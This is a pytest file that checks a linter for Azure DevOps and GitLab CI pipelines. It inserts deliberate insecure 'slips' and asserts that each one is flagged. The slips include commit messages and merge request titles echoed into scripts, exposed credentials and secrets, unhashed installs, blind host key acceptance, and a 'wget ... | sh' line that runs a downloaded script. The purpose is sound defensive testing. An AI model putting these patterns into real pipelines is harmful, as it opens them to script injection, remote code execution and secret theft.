"""No stranger makes anything of the pipelines of Azure DevOps and GitLab, and the judge of that sees each slip."""

from __future__ import annotations

from typing import Any

import pytest
import yaml

from tests.render.pipeline_judge import azure_findings, gitlab_findings
from tests.render.test_workflows import CASES, rendered

JUDGES = {"azure-pipelines": azure_findings, "gitlab": gitlab_findings}


def findings(kind: str, case: str = "pushed", **slips: str) -> list[str]:
    content = rendered(kind, case).content.decode()
    for right, wrong in slips.items():
        assert right in content, right
        content = content.replace(right, wrong)
    document: dict[str, Any] = yaml.safe_load(content)
    return JUDGES[kind](document)


@pytest.mark.parametrize("kind", JUDGES)
@pytest.mark.parametrize("case", CASES)
def test_the_judge_finds_nothing(kind: str, case: str) -> None:
    assert findings(kind, case) == []


@pytest.mark.parametrize(
    ("right", "wrong", "said"),
    [
        ("set -o pipefail", "set -o pipefail; echo $(Build.SourceVersionMessage)", "writes a variable into a script"),
        ("set -o pipefail", "echo ${{ variables.x }}", "writes a variable into a script"),
        ("UsePythonVersion@0", "SomebodysTask@1", "runs the task SomebodysTask@1"),
        ("UsePythonVersion@0", "UsePythonVersion", "runs the task UsePythonVersion"),
        ("ubuntu-24.04", "ubuntu-latest", "runs on whatever is newest"),
        ("persistCredentials: false", "persistCredentials: true", "leaves the repository's token"),
        ("'refs/heads/main', 'refs/heads/master'", "'refs/heads/main', 'refs/pull/1'", "has secrets where"),
        ("'Schedule', 'PullRequest'", "'Schedule'", "has secrets where"),
        (" --require-hashes", "", "installs without hashes"),
        ("dbmirror build", "dbmirror --accept-host-key build", "takes whatever host key"),
        ("jobs:", "variables:\n  - group: secrets\njobs:", "the whole pipeline has variables"),
    ],
)
def test_the_judge_sees_a_slip_in_azures(right: str, wrong: str, said: str) -> None:
    assert any(said in finding for finding in findings("azure-pipelines", **{right: wrong}))


@pytest.mark.parametrize(
    ("right", "wrong", "said"),
    [
        ("docker:28.5.2-cli", "docker:latest", "is whatever is newest"),
        ("docker:28.5.2-dind", "docker:dind", "is whatever is newest"),
        ("dbmirror build", "echo $CI_COMMIT_MESSAGE; dbmirror build", "writes a stranger's text"),
        ("dbmirror build", "echo ${CI_MERGE_REQUEST_TITLE}; dbmirror build", "writes a stranger's text"),
        (" && $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH", "", "has secrets where"),
        (" --require-hashes", "", "installs without hashes"),
        ("dbmirror build", "dbmirror --accept-host-key build", "takes whatever host key"),
        ("apk add --no-cache git", "wget -O- https://x.example/i.sh | sh; apk add git", "runs what it downloads"),
    ],
)
def test_the_judge_sees_a_slip_in_gitlabs(right: str, wrong: str, said: str) -> None:
    assert any(said in finding for finding in findings("gitlab", **{right: wrong}))
